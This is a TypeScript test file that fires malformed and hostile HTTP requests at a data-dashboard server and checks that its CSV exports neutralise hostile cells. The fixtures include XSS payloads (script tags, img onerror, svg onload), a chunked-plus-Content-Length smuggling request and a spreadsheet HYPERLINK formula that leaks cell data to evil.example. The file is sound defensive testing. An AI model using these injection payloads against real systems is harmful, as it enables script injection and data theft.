import { request as httpRequest, type IncomingHttpHeaders } from 'node:http';
import { connect } from 'node:net';
import path from 'node:path';
import { errorAnswerSchema } from '@bd/core';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_URL_BYTES } from './http/request-limits.ts';
import { fakeWebDist } from './test-fixtures/fixture-app.ts';
import {
  errorShapeProblems,
  type HostileRequest,
  hostileRequest,
  securityHeaderProblems,
} from './test-fixtures/hostile-requests.ts';
import { type ServerRun, startServer, stopServers } from './test-fixtures/server-process.ts';

/** The valid data folder whose every text is markup, script or a formula (tests/fixtures/hostile-data/README.md). */
const HOSTILE_DATA_DIR = path.resolve(import.meta.dirname, '../../../tests/fixtures/hostile-data');

interface Answer {
  status: number;
  headers: Headers;
  body: string;
}

function toHeaders(incoming: IncomingHttpHeaders): Headers {
  const headers = new Headers();
  for (const [name, value] of Object.entries(incoming)) {
    for (const one of Array.isArray(value) ? value : [value ?? '']) headers.append(name, one);
  }
  return headers;
}

/**
 * The target as a client puts it on the wire: Node's client sends bytes 0x21-0xFF as they are (so Latin-1 letters
 * reach the server raw, which it must refuse), and anything else percent-encoded here.
 */
const onTheWire = (target: string) =>
  target.replace(/[^\u0021-\u00ff]/gu, (char) => encodeURIComponent(char).replace(/%00/g, '%2500'));

/** The path the server reads from a target, as its adapter does: `/api/../x` is `/x`. */
function serverPathname(target: string): string {
  try {
    return new URL(`http://localhost${onTheWire(target)}`).pathname;
  } catch {
    return target;
  }
}

let server: ServerRun & { base: string };
let web: ReturnType<typeof fakeWebDist>;

/** Sends one request on a connection of its own with Node's HTTP client, which sends any method token. */
function send(request: HostileRequest): Promise<Answer> {
  const { hostname, port } = new URL(server.base);
  return new Promise((resolve, reject) => {
    const outgoing = httpRequest(
      { host: hostname, port, method: request.method, path: onTheWire(request.target), headers: request.headers, agent: false },
      (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () =>
          resolve({ status: res.statusCode ?? 0, headers: toHeaders(res.headers), body: Buffer.concat(chunks).toString('utf8') }),
        );
      },
    );
    outgoing.on('error', reject);
    outgoing.end();
  });
}

/** Sends `text` as it is on a socket and reads the answer until the server closes. */
function sendRaw(text: string | Buffer): Promise<Answer> {
  const { hostname, port } = new URL(server.base);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(port), hostname, () => socket.write(text));
    const chunks: Buffer[] = [];
    socket.on('data', (chunk) => chunks.push(chunk));
    socket.on('error', reject);
    socket.on('close', () => {
      const all = Buffer.concat(chunks).toString('utf8');
      const split = all.indexOf('\r\n\r\n');
      const [statusLine = '', ...lines] = all.slice(0, split).split('\r\n');
      const headers = new Headers(
        lines.map((line) => [line.slice(0, line.indexOf(':')), line.slice(line.indexOf(':') + 1).trim()]),
      );
      resolve({ status: Number(statusLine.split(' ')[1]), headers, body: all.slice(split + 4) });
    });
  });
}

beforeAll(async () => {
  web = fakeWebDist();
  server = await startServer({ DATA_DIR: HOSTILE_DATA_DIR, WEB_DIST: web.dir });
}, 60_000);

afterAll(() => {
  stopServers();
  web.dispose();
});

describe('the real server under hostile requests over HTTP', { timeout: 120_000 }, () => {
  it('never answers 5xx, always with the security headers and, for the API, the JSON error shape', async () => {
    await fc.assert(
      fc.asyncProperty(hostileRequest, async (request) => {
        const answer = await send(request);
        const label = `${request.method} ${request.target.slice(0, 120)}`;
        expect(answer.status, label).toBeLessThan(500);
        const pathname = serverPathname(request.target);
        expect(securityHeaderProblems(answer.headers, pathname), label).toEqual([]);
        expect(errorShapeProblems(pathname, request.method, answer.status, answer.headers, answer.body), label).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });

  const longQuery = (length: number) => `/api/observations?indicator=${'a'.repeat(length)}`;

  it.each([
    ['a method HTTP does not know', 405, 'FOO /api/health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    [
      'raw Latin-1 bytes in the path',
      400,
      Buffer.from('GET /api/h\xe9alth HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n', 'latin1'),
    ],
    ['no Host', 400, 'GET /api/observations?from=2020 HTTP/1.1\r\nConnection: close\r\n\r\n'],
    ['a Host that is no host', 400, 'GET /api/observations?from=2020 HTTP/1.1\r\nHost: bad host\r\nConnection: close\r\n\r\n'],
    ['a backslash in the path', 400, 'GET /api\\health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['"*" as the target', 400, 'GET * HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'],
    ['a URL over the limit', 414, `GET ${longQuery(MAX_URL_BYTES)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['a URL longer than Node reads', 414, `GET ${longQuery(70_000)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`],
    ['headers longer than Node reads', 431, `GET /api/health HTTP/1.1\r\nHost: x\r\nX-Big: ${'a'.repeat(20_000)}\r\n\r\n`],
    [
      'a body that is both chunked and sized',
      400,
      'GET /api/health HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n0\r\n\r\n',
    ],
    ['an HTTP version that does not exist', 400, 'GET /api/health HTTP/9.9\r\nHost: x\r\n\r\n'],
    ['a method that is not a word', 405, '\u0000\u0001 /api/health HTTP/1.1\r\n\r\n'],
  ])('answers %s with a %i in JSON, with the security headers', async (_label, status, text) => {
    const answer = await sendRaw(text);
    expect(answer.status).toBe(status);
    expect(answer.headers.get('Content-Type')).toMatch(/^application\/json/);
    expect(errorAnswerSchema.parse(JSON.parse(answer.body)).error).not.toBe('');
    expect(securityHeaderProblems(answer.headers)).toEqual([]);
    if (status === 405) expect(answer.headers.get('Allow')).toBe('GET, HEAD');
  });
});

describe('security headers on every kind of answer over HTTP', () => {
  const origin = { Origin: 'https://elsewhere.example' };
  it.each([
    ['JSON', 'GET', '/api/indicators', 200, /^application\/json/],
    ['CSV', 'GET', '/api/observations.csv', 200, /^text\/csv/],
    ['the reference page', 'GET', '/api/docs', 200, /^text\/html/],
    ['a dashboard page', 'GET', '/timeline', 200, /^text\/html/],
    ['a static asset', 'GET', '/assets/index-abc123.js', 200, /javascript/],
    ['an API 404', 'GET', '/api/indicators/nowhere', 404, /^application\/json/],
    ['a file 404', 'GET', '/assets/nowhere.js', 404, /^text\/plain/],
    ['a 405', 'DELETE', '/api/indicators', 405, /^application\/json/],
    ['a 400', 'GET', '/api/observations?from=2024&to=2020', 400, /^application\/json/],
    ['a 414', 'GET', `/api/observations?indicator=${'a'.repeat(MAX_URL_BYTES)}`, 414, /^application\/json/],
  ])('%s', async (_kind, method, target, status, type) => {
    const answer = await send({ method, target, headers: origin });
    expect(answer.status).toBe(status);
    expect(answer.headers.get('Content-Type')).toMatch(type);
    expect(securityHeaderProblems(answer.headers)).toEqual([]);
    expect(answer.headers.get('Content-Security-Policy')).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    if (target.startsWith('/api')) {
      expect(answer.headers.get('Access-Control-Allow-Origin')).toBe('*');
      expect(answer.headers.get('Access-Control-Allow-Credentials')).toBeNull();
    }
  });

  it('a 304', async () => {
    const first = await send({ method: 'GET', target: '/api/indicators', headers: {} });
    const again = await send({
      method: 'GET',
      target: '/api/indicators',
      headers: { 'If-None-Match': first.headers.get('ETag')! },
    });
    expect(again.status).toBe(304);
    expect(securityHeaderProblems(again.headers)).toEqual([]);
  });
});

describe('the CSV of hostile data, over HTTP', () => {
  /** The rows of the observations CSV as objects, and the raw text; `?bom=1` adds Excel's byte order mark. */
  async function observationsCsv(query = '') {
    const res = await fetch(`${server.base}/api/observations.csv${query}`);
    const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await res.arrayBuffer());
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    return { text, rows, byId: (evidenceStart: string) => rows.find((r) => r.evidence?.includes(evidenceStart)) };
  }

  it('neutralises every text cell a spreadsheet would run, and keeps numbers numbers (-5 stays -5)', async () => {
    const { rows, byId } = await observationsCsv();
    expect(rows).toHaveLength(5);
    const fdi = byId('more than USD 1.2 billion')!;
    expect(fdi.evidence).toBe("'=more than USD 1.2 billion <script>window.__pwned=1</script>");
    expect(fdi.note).toBe("'+1 call me");
    expect(fdi.indicator_name).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"FDI attracted")');
    expect(fdi.source_publisher).toBe('\'@SUM(1+1) <img src=x onerror="window.__pwned=1">');
    expect(fdi.value).toBe('1200000000');
    const growth = byId('fell by about 5 percent')!;
    expect(growth.value).toBe('-5');
    expect(growth.evidence?.startsWith("'@")).toBe(true);
    expect(growth.indicator_name?.startsWith("'-FDI growth")).toBe(true);
    expect(byId('14 foreign localities')?.note).toBe(
      '\'-5 is not a formula\r\nsecond line, "quoted", <script>window.__pwned=1</script>',
    );
    for (const row of rows) expect(Number.isFinite(Number(row.value))).toBe(true);
  });

  it('quotes fields with quotes, commas and line breaks (RFC 4180), and keeps Vietnamese in UTF-8, with or without BOM', async () => {
    const plain = await observationsCsv();
    expect(plain.text).toContain('"<script>window.__pwned=1</script> Binh Duong ""partners"", with a comma"');
    expect(plain.text).toContain('"\'-5 is not a formula\r\nsecond line, ""quoted"", <script>window.__pwned=1</script>"');
    expect(plain.text.charCodeAt(0)).not.toBe(0xfeff);
    expect(plain.byId('gần 1,5 tỷ USD')?.source_title).toBe(
      'Bình Dương: <b>đối ngoại</b> & "đầu tư" <script>window.__pwned=1</script>',
    );
    const bom = await observationsCsv('?bom=1');
    expect(bom.text.charCodeAt(0)).toBe(0xfeff);
    expect(bom.rows).toEqual(plain.rows);
  });

  it('does the same for the events CSV', async () => {
    const res = await fetch(`${server.base}/api/events.csv`);
    const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
    const names = Object.fromEntries(rows.map((r) => [r.event_id, r]));
    expect(names['conference-2023']?.name).toBe("'=1+1 Investment conference");
    expect(names['conference-2023']?.evidence).toBe("'-2 hosted an investment conference");
    expect(names['award-2023']?.evidence_en).toBe("'@top investment destination");
    expect(names['partner-kumamoto']?.name).toBe('<svg onload="window.__pwned=1">Kumamoto</svg>');
  });
});
